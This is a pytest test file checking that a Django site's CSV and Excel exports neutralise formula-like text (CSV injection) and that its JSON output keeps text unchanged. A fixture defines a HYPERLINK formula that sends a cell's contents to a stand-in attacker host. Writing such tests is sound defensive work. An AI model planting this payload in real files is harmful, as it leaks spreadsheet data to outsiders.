"""No cell of a CSV or Excel file the site writes is a formula (OWASP, "CSV Injection"); the JSON
files carry the text unchanged; the back office's import reads its own export back unchanged."""

import csv
import io
import json

import openpyxl
import pytest
from django.contrib import admin
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st

from cicte.exports import from_spreadsheet_cell, spreadsheet_cell
from tests.admin_forms import signed_in
from tests.factories.cicte import ReportingYearFactory
from tests.factories.events import EventFactory, EventPartnerFactory
from tests.factories.partners import PartnerFactory
from tests.factories.programs import ActivityFactory, ProgramFactory, ProgramYearFactory
from tests.factories.publications import PublicationFactory
from tests.factories.users import EditorFactory

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Open")'
# (text staff typed, the cell a spreadsheet program gets)
CELLS = [
    (HYPERLINK, "'" + HYPERLINK),
    ("=1+2", "'=1+2"),
    ("+1 555", "'+1 555"),
    ("-5 °C", "'-5 °C"),
    ("@home", "'@home"),
    ("\tindented", "'\tindented"),
    ("\rreturn", "'\rreturn"),
    ("'=already quoted", "''=already quoted"),
    ("'quoted text", "'quoted text"),
    ("Plain 2020 - text", "Plain 2020 - text"),
    # Only quotes count before a formula's sign: "X" is text (nothing else is stripped).
    ("X=1", "X=1"),
    ("'X=1", "'X=1"),
    ("", ""),
]


@pytest.mark.parametrize(("text", "cell"), CELLS)
def test_spreadsheet_cell_quotes_what_would_be_a_formula(text, cell):
    assert spreadsheet_cell(text) == cell
    assert from_spreadsheet_cell(cell) == text


@given(st.text())
def test_spreadsheet_cell_reads_back_as_written(text):
    cell = spreadsheet_cell(text)

    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert from_spreadsheet_cell(cell) == text


def body(response) -> str:
    return b"".join(response.streaming_content).decode("utf-8-sig")


def public_records():
    """A published event, publication and partner whose texts start like formulas."""
    year = ReportingYearFactory(year=2020)
    partner = PartnerFactory(name=HYPERLINK, slug="evil", acronym="@home")
    event = EventFactory(year=year, title=HYPERLINK, city="-5 °C", programs=[ProgramFactory()])
    EventPartnerFactory(event=event, partner=partner)
    PublicationFactory(year=year, title="=1+2", programs=[ProgramFactory()])


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("name", "column", "cells"),
    [
        ("events", "Title", ["'" + HYPERLINK]),
        ("events", "City", ["'-5 °C"]),
        ("publications", "Title", ["'=1+2"]),
        ("partners", "Name", ["'" + HYPERLINK]),
        ("partners", "Acronym", ["'@home"]),
    ],
)
def test_public_csv_cells_are_never_formulas(client, name, column, cells):
    public_records()

    rows = list(csv.DictReader(io.StringIO(body(client.get(reverse(f"{name}-csv"))))))

    assert [row[column] for row in rows] == cells


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("name", "key", "values"),
    [
        ("events", "title", [HYPERLINK]),
        ("events", "city", ["-5 °C"]),
        ("publications", "title", ["=1+2"]),
        ("partners", "acronym", ["@home"]),
    ],
)
def test_public_json_carries_the_text_unchanged(client, name, key, values):
    public_records()

    rows = json.loads(body(client.get(reverse(f"{name}-json"))))

    assert [row[key] for row in rows] == values


def admin_export(client, model, format_index):
    url = reverse(f"admin:{model._meta.app_label}_{model._meta.model_name}_export")
    return client.post(url, {"format": format_index, "resource": "0"})


@pytest.mark.django_db
@pytest.mark.parametrize(
    "model",
    [
        model
        for model, model_admin in admin.site._registry.items()
        if hasattr(model_admin, "get_data_for_export")
    ],
    ids=lambda model: model._meta.label_lower,
)
def test_admin_excel_export_writes_no_formula_cell(model):
    year = ReportingYearFactory(year=2020, title=HYPERLINK)
    program = ProgramFactory(name=HYPERLINK, description="=1+2")
    partner = PartnerFactory(name=HYPERLINK, acronym="@home")
    EventPartnerFactory(
        event=EventFactory(year=year, title=HYPERLINK, city="-5 °C", programs=[program]),
        partner=partner,
    )
    ActivityFactory(year=year, program=program, title=HYPERLINK)
    ProgramYearFactory(year=year, program=program, narrative=HYPERLINK)
    PublicationFactory(year=year, title=HYPERLINK, programs=[program])
    client = signed_in(EditorFactory())

    response = admin_export(client, model, "1")

    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    assert [
        cell.value
        for cell in cells
        if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@"))
    ] == []
